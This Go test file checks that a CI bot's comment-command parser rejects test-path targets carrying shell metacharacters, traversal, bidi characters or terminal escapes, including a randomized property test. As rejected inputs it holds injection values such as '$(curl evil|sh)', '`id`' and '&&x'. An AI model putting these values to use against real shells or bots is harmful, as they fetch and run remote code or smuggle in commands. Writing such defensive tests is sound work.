package scope

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// TestRejectNeverWiden: a target holding anything the grammar does not
// allow rejects the whole request, with the reason `scope check` gives for
// the same arguments. Inline code spans used to become a space, so these
// were accepted as "tests/", the whole tree.
func TestRejectNeverWiden(t *testing.T) {
	c := resolved(t, "flashinfer")
	charset := "targets contain characters not allowed in a test path: "
	for _, tt := range []struct{ args, reason string }{
		{"tests/`id`", charset + "tests/`id`"},
		{"tests/`$(curl evil|sh)`", charset + "tests/`$(curl, evil|sh)`"},
		{"tests/`../..`", charset + "tests/`../..`"},
		{"`tests/a.py`", charset + "`tests/a.py`"},
		{"tests/a.py `tests/b.py`", charset + "`tests/b.py`"},
		{"tests/a.py ``x``", charset + "``x``"},
		{"tests/$(id)", charset + "tests/$(id)"},
		{"tests/a.py;", charset + "tests/a.py;"},
		{"tests/a.py&&x", charset + "tests/a.py&&x"},
		{"tests/a\u00a0b.py", charset + "tests/a\u00a0b.py"},
		{"tests/\u202eyp.a", charset + "tests/\u202eyp.a"},
		{"tests/../..", "targets outside tests/: tests/../.."},
		{"tests/a..b.py", "targets outside tests/: tests/a..b.py"},
		{"tests/a.py ../tests", charset + "../tests"},
	} {
		t.Run(tt.args, func(t *testing.T) {
			got := classify(t, "@flashinfer-bot run "+tt.args, ClassifyOptions{Config: c})
			if got.Outcome != Rejected || got.Name != CmdRun || len(got.Targets) != 0 || got.Reason != tt.reason {
				t.Fatalf("got %s %q %q (%s), want rejected run: %s", got.Outcome, got.Name, got.Targets, got.Reason, tt.reason)
			}
			// One grammar: scope check splits and validates the same way.
			res := Validate(SplitArgs(tt.args), OptionsFrom(c))
			if res.Accepted() || joinReasons(res) != got.Reason {
				t.Fatalf("scope check says %q, command parse %q", joinReasons(res), got.Reason)
			}
		})
	}
	// Near misses: the guard is the charset, not a ban on the neighbours of
	// code spans; code before the trigger and valid targets still work.
	runCmdCases(t, []cmdCase{
		{name: "code span before the trigger", body: "`note` @flashinfer-bot run tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "code span glued before the trigger", body: "`note`@flashinfer-bot run tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "code glued after the trigger is a verb", body: "@flashinfer-bot`run` tests/a.py", outcome: Unrecognized},
		{name: "code span as the verb", body: "@flashinfer-bot `run` tests/a.py", outcome: Unrecognized},
		{name: "unicode case folding is no login", body: "@fla\u017fhinfer-bot run tests/a.py", outcome: Unrecognized},
		{name: "ascii case folding is", body: "@FLASHINFER-bot run tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "code on a later line", body: "@flashinfer-bot run tests/a.py\n`tests/`", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
	}, ClassifyOptions{Config: c})
}

func joinReasons(r Result) string {
	msgs := make([]string, len(r.Reasons))
	for i, x := range r.Reasons {
		msgs[i] = x.Message
	}
	return strings.Join(msgs, "; ")
}

// TestNoAcceptedTargetBroaderThanWritten is the property behind "reject,
// never widen": over generated comments mixing valid paths with code
// spans, metacharacters and traversal, an accepted run's targets are
// exactly the distinct arguments written after its verb, each verbatim (so
// none is a prefix, a directory, of what was written), and "run all" is
// accepted only when "all" was its one argument.
func TestNoAcceptedTargetBroaderThanWritten(t *testing.T) {
	c := resolved(t, "flashinfer")
	pieces := []string{
		"tests/a.py", "tests/gemm/", "tests/", "tests", "all", "full", "please", "`id`", "`", "``",
		"$(curl evil|sh)", "../..", "..", ";", "|", "&", "::test_x", "-x", "\u00a0", "\u202e", "\t", " ", "  ",
		"`tests/b.py`", "tests/`x`", "\r", "\\", "'", "\"", "\x00", "*", "?", "~", "#",
	}
	valid := []string{"tests/a.py", "tests/gemm/", "tests/", "tests/attention/test_x.py", "all"}
	triggers := []string{"@flashinfer-bot", "@FlashInfer-Bot", "/bot", "`x` @flashinfer-bot", "@@flashinfer-bot", "> @flashinfer-bot"}
	verbs := []string{"run", "RUN", "run`", "`run`"}
	r := rand.New(rand.NewPCG(27, 1))
	accepted := 0
	for range 20000 {
		var b strings.Builder
		b.WriteString(triggers[r.IntN(len(triggers))] + " " + verbs[r.IntN(len(verbs))])
		for range r.IntN(5) {
			if r.IntN(2) == 0 {
				b.WriteByte(' ')
			}
			if r.IntN(4) != 0 {
				// Mostly valid arguments, so that accepted runs are common
				// and a hostile piece is often the only bad one.
				b.WriteString(" " + valid[r.IntN(len(valid))])
				continue
			}
			for range 1 + r.IntN(3) {
				b.WriteString(pieces[r.IntN(len(pieces))])
			}
		}
		body := b.String()
		cmd := classify(t, body, ClassifyOptions{Config: c})
		if cmd.Outcome != Accepted || (cmd.Name != CmdRun && cmd.Name != CmdRunAll) {
			if len(cmd.Targets) != 0 {
				t.Fatalf("%q: %s %s carries targets %q", body, cmd.Outcome, cmd.Name, cmd.Targets)
			}
			continue
		}
		accepted++
		written := writtenArgs(t, body, cmd.Line)
		if cmd.Name == CmdRunAll {
			if !slices.Equal(written, []string{"all"}) {
				t.Fatalf("%q: run all accepted, but %q was written", body, written)
			}
			continue
		}
		if !slices.Equal(cmd.Targets, dedup(written)) {
			t.Fatalf("%q: accepted targets %q, but %q was written", body, cmd.Targets, written)
		}
	}
	if accepted < 500 {
		t.Fatalf("only %d accepted runs: the generator no longer tests the property", accepted)
	}
}

// writtenArgs is an independent reading of what follows the verb on the
// command line: the line as written, split on ASCII whitespace, after the
// first token that spells "run" (a command line's verb is its second
// token; code spans before the trigger are their own tokens here).
func writtenArgs(t *testing.T, body string, line int) []string {
	t.Helper()
	l := strings.Split(strings.ReplaceAll(body, "\r", ""), "\n")[line-1]
	toks := strings.FieldsFunc(l, func(r rune) bool { return strings.ContainsRune(" \t\n\v\f", r) })
	for i, tok := range toks {
		if strings.EqualFold(tok, "run") {
			return toks[i+1:]
		}
	}
	t.Fatalf("%q: no verb on line %d", body, line)
	return nil
}

// TestRejectedTargetEchoedInert: the text format echoes a rejected target
// with its control characters spelled out, never raw.
func TestRejectedTargetEchoedInert(t *testing.T) {
	cmd := classify(t, "@flashinfer-bot run tests/\x1b[2Jx\u202e\x0b::warning::y", ClassifyOptions{})
	var b strings.Builder
	if err := WriteCommand(&b, "text", cmd); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.ContainsAny(out, "\x1b\u202e") || !strings.Contains(out, `tests/\x1b[2Jx\u202e`) {
		t.Fatalf("text output %q", out)
	}
}
